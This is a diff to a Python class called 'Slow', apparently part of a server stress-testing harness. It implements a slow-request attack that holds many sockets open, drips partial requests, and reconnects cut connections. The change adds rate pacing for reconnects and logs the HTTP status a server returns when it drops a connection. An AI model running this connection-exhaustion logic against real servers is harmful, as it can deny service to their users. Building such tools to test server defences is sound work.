@@ -110,7 +110,7 @@ class Slow(Attack):
     words = CURL[:20]
     drip = CURL[20:-2]
     pace = 2000.0
-    """How many come a second."""
+    """How many come a second, for the first time or again."""
 
     def __init__(self, port: int, count: int, rate: float) -> None:
         super().__init__(port, count, rate)
@@ -122,15 +122,17 @@ class Slow(Attack):
         """Who was cut, and when it comes again."""
         self._came = 0
         self._now = 0.0
+        self._may_come = 0.0
 
     def _act(self, now: float) -> None:
+        self._may_come = min(self._may_come + (now - self._now) * self.pace, self.pace / 10)
         self._now = now
-        while self._came < min(self._count, int(now * self.pace)):
+        while self._may_come >= 1 and self._came < self._count:
             self._come(self._came)
             self._came += 1
-        self.there = self._came == self._count
-        while self._away and self._away[0][0] <= now:
+        while self._may_come >= 1 and self._away and self._away[0][0] <= now:
             self._come(self._away.popleft()[1])
+        self.there = self._came == self._count
         while self._due and self._due[0][0] <= now:
             _, sock, at = self._due.popleft()
             if sock.fileno() >= 0:
@@ -138,6 +140,7 @@ class Slow(Attack):
         self.counts["held"] = len(self._socks)
 
     def _come(self, number: int) -> None:
+        self._may_come -= 1
         sock = self._connect(number, self.words, select.EPOLLRDHUP)
         if sock is None:
             self._away.append((self._now + AGAIN, number))
@@ -167,8 +170,12 @@ class Slow(Attack):
 
     def _cut(self, fd: int) -> None:
         sock, number = self._socks.pop(fd)
+        try:
+            head = sock.recv(12)
+        except OSError:
+            head = b""
         sock.close()
-        self.counts["cut"] += 1
+        self.counts[head[9:12].decode() if head.startswith(b"HTTP/") else "cut"] += 1
         self._away.append((self._now + AGAIN, number))
 
 
